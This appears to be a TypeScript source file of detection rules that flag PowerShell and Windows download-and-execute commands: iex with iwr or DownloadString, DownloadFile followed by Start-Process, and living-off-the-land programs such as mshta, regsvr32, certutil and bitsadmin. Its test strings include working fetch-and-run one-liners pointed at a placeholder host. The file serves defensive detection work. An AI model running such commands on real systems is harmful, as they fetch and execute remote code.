import type { Rule } from '../../rule.ts';
import { expression } from '../boundary.ts';
import { isInstallOneLiner } from '../install_one_liner.ts';
import { fetchesSomething } from '../shell_syntax.ts';
import { PIPE_TO_SHELL } from './format.ts';

/** Downloads that PowerShell and programs of Windows run. */
export const WINDOWS_DOWNLOAD_RULES: readonly Rule[] = [
  {
    ...PIPE_TO_SHELL,
    id: 'powershell_download_executed',
    confidence: 'high',
    keywords: ['iex', 'invoke-expression', 'downloadstring', 'invoke-webrequest', 'scriptblock]::create'],
    expression: expression(
      'gi',
      '(?:',
      String.raw`(?<![A-Za-z0-9_-])(?:iex|invoke-expression|\[scriptblock\]::create\()[\s(&{"'.\\$]{1,12}[^\r\n]{0,80}?(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod|net\.webclient|downloadstring)\b`,
      String.raw`|(?<![A-Za-z0-9_-])(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod|downloadstring\()[^\r\n]{3,200}?\|[ \t]{0,4}(?:iex|invoke-expression)(?![A-Za-z0-9_-])`,
      ')',
      String.raw`[^\r\n|;]{0,120}`,
    ),
    reach: { before: 240, after: 360 },
    validate: fetchesSomething,
    everyday: isInstallOneLiner,
    describes: 'A download that PowerShell evaluates.',
    get finds() {
      return [
        'iex (iwr https://x.example/a.ps1)',
        "IEX((New-Object System.Net.WebClient).DownloadString('http://x.example/a'))",
        'irm https://x.example/i.ps1 | iex',
        'powershell -c "iwr http://x.example/a -useb | Invoke-Expression"',
      ];
    },
    get ignores() {
      return [
        'iex -S mix phx.server',
        'Invoke-Expression is to be avoided',
        'iwr https://x.example/a.zip -OutFile a.zip',
        'iex> String.downcase("wget")',
      ];
    },
  },
  {
    ...PIPE_TO_SHELL,
    id: 'powershell_download_started',
    confidence: 'medium',
    keywords: ['downloadfile(', 'start-bitstransfer', '-outfile'],
    expression: expression(
      'gi',
      String.raw`(?:downloadfile\(|start-bitstransfer[ \t]|(?:iwr|invoke-webrequest|irm|invoke-restmethod|curl|wget)[ \t][^\r\n;|]{3,160}?-outfile[ \t])[^\r\n;|]{3,200}[;|][ \t]{0,4}`,
      String.raw`(?:(?:start-process|saps|start|invoke-item|ii|&|cmd|rundll32|powershell)[ \t"'.\\]|\.[\\/])[^\r\n;|]{2,80}`,
    ),
    reach: { before: 190, after: 340 },
    validate: fetchesSomething,
    describes: 'A download that PowerShell writes to a file and starts.',
    get finds() {
      return [
        "(New-Object Net.WebClient).DownloadFile('http://x.example/a.exe','a.exe'); Start-Process a.exe",
        'iwr http://x.example/a.exe -OutFile $env:TEMP\\a.exe; & $env:TEMP\\a.exe',
        'Start-BitsTransfer http://x.example/a.exe a.exe; .\\a.exe',
      ];
    },
    get ignores() {
      return [
        'iwr https://x.example/a.zip -OutFile a.zip; Expand-Archive a.zip',
        'Start-BitsTransfer -Source $url',
        "$c.DownloadFile('http://x.example/a.zip','a.zip')",
      ];
    },
  },
  {
    ...PIPE_TO_SHELL,
    id: 'windows_download_executed',
    confidence: 'high',
    keywords: ['mshta', 'regsvr32', 'rundll32', 'certutil', 'bitsadmin', 'msiexec', '/format:'],
    expression: expression(
      'gi',
      '(?<![A-Za-z0-9_-])(?:',
      String.raw`mshta(?:\.exe)?[\s"'\\]{1,6}(?:https?:|javascript:|vbscript:)[^\s"']{3,160}`,
      String.raw`|regsvr32(?:\.exe)?[^\r\n]{1,40}/i:https?:[^\s"']{3,160}`,
      String.raw`|rundll32(?:\.exe)?[\s"'\\]{1,6}(?:javascript:|https?:|url\.dll)[^\r\n]{3,160}`,
      String.raw`|certutil(?:\.exe)?[^\r\n]{1,40}-urlcache[^\r\n]{1,40}https?:[^\s"']{3,160}`,
      String.raw`|bitsadmin(?:\.exe)?[^\r\n]{1,80}https?:[^\s"']{3,160}`,
      String.raw`|msiexec(?:\.exe)?[^\r\n]{1,24}[/-](?:i|package)[\s"'\\]{1,4}https?:[^\s"']{3,160}`,
      String.raw`|wmic(?:\.exe)?[^\r\n]{1,40}/format:["'\\]{0,3}https?:[^\s"']{3,160}`,
      ')',
    ),
    reach: { before: 56, after: 280 },
    describes: 'A program of Windows that downloads and runs what it is given.',
    get finds() {
      return [
        'mshta http://x.example/a.hta',
        'regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll',
        'certutil -urlcache -split -f http://x.example/a.exe a.exe',
        'msiexec /q /i http://x.example/a.msi',
        'wmic os get /format:"http://x.example/a.xsl"',
      ];
    },
    get ignores() {
      return ['mshta.exe is a program', 'certutil -hashfile a.iso SHA256', 'regsvr32 /s msxml3.dll'];
    },
  },
];
